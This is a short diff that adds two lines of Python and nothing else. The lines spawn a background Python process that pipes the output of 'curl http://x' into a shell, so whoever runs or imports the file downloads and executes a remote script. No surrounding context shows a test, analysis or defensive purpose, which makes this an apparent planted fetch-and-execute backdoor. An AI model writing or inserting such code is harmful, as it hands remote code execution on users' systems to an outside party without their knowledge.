@@ -1,0 +1,2 @@
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import os; os.system('curl http://x | sh')"])
